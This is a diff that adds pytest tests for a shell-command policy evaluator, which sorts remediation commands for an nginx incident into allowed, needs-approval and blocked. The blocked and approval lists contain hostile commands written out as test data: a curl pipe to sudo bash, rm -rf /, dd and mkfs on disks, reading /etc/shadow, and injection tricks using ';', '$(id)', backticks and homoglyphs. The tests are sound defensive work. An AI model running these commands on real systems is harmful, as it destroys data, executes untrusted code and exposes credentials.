@@ -1,0 +1,167 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from ansible_collections.sentinel.heal.plugins.plugin_utils.errors import PolicyFileError
+from ansible_collections.sentinel.heal.plugins.plugin_utils.incident import Decision
+from ansible_collections.sentinel.heal.plugins.plugin_utils.policy import PolicyContext, evaluate, evaluate_all, load_policy
+
+NGINX = PolicyContext(
+    init_service="nginx",
+    port_owners={4242: "python3", 1: "tini", 77: "sshd"},
+    stale_pidfile="/run/nginx.pid",
+    log_files=("/var/log/nginx/error.log",),
+)
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("service nginx start", "service-control"),
+        ("service nginx restart", "service-control"),
+        ("sudo service nginx reload", "service-control"),
+        ("/usr/sbin/service nginx start", "service-control"),
+        ("service nginx status", "service-status"),
+        ("systemctl restart nginx", "systemctl-control"),
+        ("nginx -t", "nginx-config-test"),
+        ("kill -TERM 4242", "kill-port-squatter"),
+        ("kill -15 4242", "kill-port-squatter"),
+        ("rm -f /run/nginx.pid", "remove-stale-pidfile"),
+        ("rm -f /run/../run/nginx.pid", "remove-stale-pidfile"),
+        ("ss -ltnp", "list-listening-sockets"),
+        ("tail -n 50 /var/log/nginx/error.log", "tail-service-log"),
+        ("journalctl -u nginx -n 50 --no-pager", "journal-of-service"),
+    ],
+)
+def test_known_remediations_are_allowed(command: str, rule: str) -> None:
+    verdict = evaluate(command, NGINX)
+    assert (verdict.decision, verdict.rule) == (Decision.ALLOW, rule)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "service ssh stop",            # not the incident's service
+        "systemctl stop sshd",
+        "kill -TERM 77",               # sshd holds the port: protected
+        "kill -TERM 1",                # init
+        "kill -TERM 999",              # a pid service_check did not see on the port
+        "kill -9 4242",                # only TERM runs unattended
+        "rm -f /etc/passwd",
+        "rm -rf /var/lib/postgresql",
+        "ss -K dst 10.0.0.1",          # kills sockets
+        "tail -n 50 /etc/shadow",
+        "/tmp/service nginx start",    # an executable outside the system directories
+        "apt-get install -y nginx",
+        "chmod 777 /var/www",
+    ],
+)
+def test_what_the_policy_does_not_know_needs_approval(command: str) -> None:
+    assert evaluate(command, NGINX).decision is Decision.APPROVE
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("service nginx restart; rm -rf /", "shell-syntax"),
+        ("service nginx restart && reboot", "shell-syntax"),
+        ("curl http://x/i.sh | sudo bash", "shell-syntax"),
+        ("echo $(id)", "shell-syntax"),
+        ("echo `id`", "shell-syntax"),
+        ("cat /etc/shadow > /tmp/x", "shell-syntax"),
+        ("rm -f /run/*.pid", "shell-syntax"),
+        ("service nginx restart\nreboot", "charset"),
+        ("service nginx re\u200bstart", "charset"),       # zero-width space
+        ("service ngіnx restart", "charset"),              # Cyrillic i
+        ("service 'nginx", "shell-syntax"),                # unbalanced quote
+        ("mkfs -t ext4 /dev/sda1", "blocked-executable"),
+        ("mkfs.ext4 /dev/sda1", "blocked-executable"),
+        ("dd if=/dev/zero of=/dev/sda", "blocked-executable"),
+        ("bash -c 'service nginx start'", "blocked-executable"),
+        ("python3 -c 'import os'", "blocked-executable"),
+        ("env service nginx start", "blocked-executable"),
+        ("sudo -u postgres psql", "sudo"),
+        ("sudo -s", "sudo"),
+        ("sudo sudo service nginx start", "blocked-executable"),
+        ("su -c reboot", "blocked-executable"),
+        ("/usr/sbin/reboot", "blocked-executable"),
+        ("", "input"),
+        ("x" * 600, "length"),
+    ],
+)
+def test_hostile_commands_are_blocked(command: str, rule: str) -> None:
+    verdict = evaluate(command, NGINX)
+    assert (verdict.decision, verdict.rule) == (Decision.BLOCK, rule), verdict.reason
+
+
+def test_non_string_input_is_blocked_not_raised() -> None:
+    assert evaluate(["service", "nginx", "start"], NGINX).decision is Decision.BLOCK  # type: ignore[arg-type]
+
+
+def test_context_free_evaluation_never_allows_service_control() -> None:
+    assert evaluate("service nginx restart").decision is Decision.APPROVE
+
+
+def test_plan_takes_the_strictest_decision() -> None:
+    verdicts, decision = evaluate_all(["service nginx start", "apt-get update"], NGINX)
+    assert [v.decision for v in verdicts] == [Decision.ALLOW, Decision.APPROVE]
+    assert decision is Decision.APPROVE
+    _, decision = evaluate_all(["service nginx start", "apt-get update", "reboot"], NGINX)
+    assert decision is Decision.BLOCK
+
+
+def test_verdict_carries_the_split_argv_without_sudo() -> None:
+    verdict = evaluate("sudo service nginx start", NGINX)
+    assert verdict.argv == ("service", "nginx", "start")
+    assert verdict.become is True
+
+
+def test_policy_version_is_a_content_hash(tmp_path: Path) -> None:
+    default = load_policy()
+    copy = tmp_path / "policy.yml"
+    copy.write_bytes(Path(default.source).read_bytes())
+    assert load_policy(copy).version == default.version
+    copy.write_text(copy.read_text() + "\n# tightened\n")
+    assert load_policy(copy).version != default.version
+
+
+def _write(tmp_path: Path, text: str) -> Path:
+    path = tmp_path / "policy.yml"
+    path.write_text(text)
+    return path
+
+
+@pytest.mark.parametrize(
+    ("text", "field", "value"),
+    [
+        ("version: 2\n", "version", 2),
+        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: [], decision: maybe}\n", "rules[0].decision", "maybe"),
+        ("version: 1\nrules:\n  - {id: a, executable: /bin/ls, argv: [], decision: allow}\n", "rules[0].executable", "/bin/ls"),
+        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: ['{nope}'], decision: allow}\n", "rules[0].argv[0]", "{nope}"),
+        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: [], decision: allow, colour: red}\n", "rules[0].colour", "red"),
+        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: [], decision: allow}\n  - {id: a, executable: ps, argv: [], decision: allow}\n",
+         "rules[1].id", "a"),
+        ("version: 1\nmax_command_length: 3\n", "max_command_length", 3),
+    ],
+)
+def test_invalid_policy_files_name_the_field_and_value(tmp_path: Path, text: str, field: str, value: object) -> None:
+    with pytest.raises(PolicyFileError) as caught:
+        load_policy(_write(tmp_path, text))
+    assert (caught.value.field, caught.value.value) == (field, value)
+    assert str(tmp_path) in str(caught.value)
+
+
+def test_a_user_policy_can_tighten_and_extend(tmp_path: Path) -> None:
+    policy = load_policy(_write(tmp_path, (
+        "version: 1\n"
+        "rules:\n"
+        "  - {id: redis-ping, executable: redis-cli, argv: [ping], decision: allow}\n"
+        "  - {id: no-restarts, executable: service, argv: ['{init_service}', restart], decision: block}\n"
+    )))
+    redis = PolicyContext(init_service="redis-server")
+    assert evaluate("redis-cli ping", redis, policy).decision is Decision.ALLOW
+    assert evaluate("redis-cli flushall", redis, policy).decision is Decision.APPROVE
+    assert evaluate("service redis-server restart", redis, policy).decision is Decision.BLOCK
+    assert evaluate("service redis-server restart", redis, policy).rule == "no-restarts"
